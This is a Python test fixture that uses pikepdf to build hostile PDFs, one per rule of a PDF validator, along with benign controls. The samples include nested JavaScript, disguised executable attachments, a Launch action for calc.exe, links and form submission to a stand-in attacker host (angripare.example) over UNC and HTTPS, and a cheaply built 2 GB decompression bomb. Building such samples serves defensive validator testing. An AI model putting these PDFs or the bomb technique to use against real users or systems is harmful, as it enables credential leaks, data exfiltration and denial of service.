"""A corpus of hostile PDFs, one per rule of cases.pdf_validation, made with pikepdf.

Each builder returns the bytes of a one-page PDF that breaks exactly one rule, so a
test can see that the rule (and not another) refused it. To look at them in a viewer:

    .venv/bin/python -m tests.security.hostile_pdfs /tmp/hostile
"""

import io
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

GB = 1024 * 1024 * 1024


def save(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def one_page(mutate: Callable[[pikepdf.Pdf], object] | None = None) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if mutate is not None:
        mutate(pdf)
    return save(pdf)


def link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    """A link annotation over the top of the first page that runs the action."""
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[50, 700, 300, 800], A=action
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([annotation]))


def with_action(action: Callable[[pikepdf.Pdf], Dictionary]) -> bytes:
    return one_page(lambda pdf: link(pdf, action(pdf)))


def javascript_nested(depth: int = 70) -> bytes:
    """A link whose action chain (/Next) hides JavaScript `depth` levels down."""

    def action(pdf: pikepdf.Pdf) -> Dictionary:
        inner = Dictionary(S=Name.JavaScript, JS=String("app.alert('hej')"))
        for _ in range(depth):
            inner = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=inner)
        return inner

    return with_action(action)


def embedded_file_spec_without_type() -> bytes:
    """A file attachment annotation; its file spec has /EF but no /Type /Filespec,
    and the embedded stream has no /Type either."""

    def mutate(pdf: pikepdf.Pdf) -> None:
        payload = pdf.make_stream(b"MZ\x90\x00 not a real program")
        annotation = Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=[50, 700, 70, 720],
            FS=Dictionary(F=String("faktura.exe"), EF=Dictionary(F=payload)),
        )
        pdf.pages[0].obj.Annots = Array([annotation])

    return one_page(mutate)


def embedded_file_stream() -> bytes:
    """A /Type /EmbeddedFile stream with no file specification pointing at it."""

    def mutate(pdf: pikepdf.Pdf) -> None:
        payload = pdf.make_stream(b"MZ\x90\x00")
        payload.Type = Name.EmbeddedFile
        pdf.Root.Stash = payload

    return one_page(mutate)


def xfa_with_script() -> bytes:
    def mutate(pdf: pikepdf.Pdf) -> None:
        xfa = pdf.make_stream(
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
            b'<script contentType="application/x-javascript">app.alert(1)</script>'
            b"</template></xdp:xdp>"
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)

    return one_page(mutate)


def action(subtype: str, **entries: Any) -> Callable[[], bytes]:
    def build() -> bytes:
        return with_action(lambda pdf: Dictionary(S=Name(subtype), **entries))

    return build


def uri(target: str) -> Callable[[], bytes]:
    return action("/URI", URI=String(target))


def too_many_pages(pages: int = 2001) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return save(pdf)


def flate_zeros(size: int) -> bytes:
    """`size` zero bytes (a multiple of 1 MiB), deflated, made cheaply: after a full
    flush each further MiB of zeros compresses to the same bytes, so they are
    compressed once and repeated; the checksum of zeros is known."""
    mib = 1024 * 1024
    compressor = zlib.compressobj(9)
    head = compressor.compress(bytes(mib)) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(mib)) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler32 = (size % 65521) << 16 | 1  # a stays 1 and b sums it once a byte
    final_block = b"\x03\x00"  # an empty final block with fixed codes
    return head + block * (size // mib - 1) + final_block + adler32.to_bytes(4, "big")


def decompression_bomb(size: int = 2 * GB) -> bytes:
    """One page whose content stream is ~2 MB and inflates to `size` bytes."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    stream = pikepdf.Stream(pdf, flate_zeros(size))
    stream.Filter = Name.FlateDecode
    pdf.pages[0].Contents = pdf.make_indirect(stream)
    # Written as it is: qpdf must neither inflate nor recompress it.
    return save(
        pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
    )


# name: (builder, the reason's code)
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "javascript_nested_70_deep": (javascript_nested, "javascript"),
    "embedded_file_spec_without_type": (embedded_file_spec_without_type, "attachment"),
    "embedded_file_stream": (embedded_file_stream, "attachment"),
    "xfa_with_script": (xfa_with_script, "xfa"),
    "gotor_to_unc": (
        action("/GoToR", F=String(r"\\angripare.example\dela\x.pdf"), D=Array([0])),
        "action",
    ),
    "submitform": (
        action(
            "/SubmitForm",
            F=Dictionary(FS=Name.URL, F=String("https://angripare.example/in")),
        ),
        "action",
    ),
    "launch": (
        action("/Launch", F=String("C:\\Windows\\System32\\calc.exe")),
        "action",
    ),
    "importdata": (action("/ImportData", F=String("data.fdf")), "action"),
    "rendition": (action("/Rendition", OP=0), "action"),
    "sound": (action("/Sound", Sound=Dictionary(R=8000)), "action"),
    "movie": (action("/Movie", T=String("film")), "action"),
    "richmediaexecute": (action("/RichMediaExecute", TA=Dictionary()), "action"),
    "uri_file": (uri("file:///C:/Windows/System32/calc.exe"), "link"),
    "uri_unc": (uri(r"\\angripare.example\dela\bild.png"), "link"),
    "uri_unc_slashes": (uri("//angripare.example/dela/bild.png"), "link"),
    "too_many_pages": (too_many_pages, "too_many_pages"),
    "decompression_bomb": (decompression_bomb, "too_much_data"),
}

BENIGN: dict[str, Callable[[], bytes]] = {
    "https_link": uri("https://www.sjuharad.se/protokoll"),
    "http_link": uri("http://example.se/"),
    "mailto_link": uri("mailto:registrator@sjuharad.se"),
    "internal_goto": lambda: with_action(
        lambda pdf: Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
    ),
    "plain": one_page,
}


def main(folder: str) -> None:
    target = Path(folder)
    target.mkdir(parents=True, exist_ok=True)
    for name, (build, _) in HOSTILE.items():
        (target / f"{name}.pdf").write_bytes(build())
    for name, build in BENIGN.items():
        (target / f"benign_{name}.pdf").write_bytes(build())


if __name__ == "__main__":
    main(sys.argv[1])
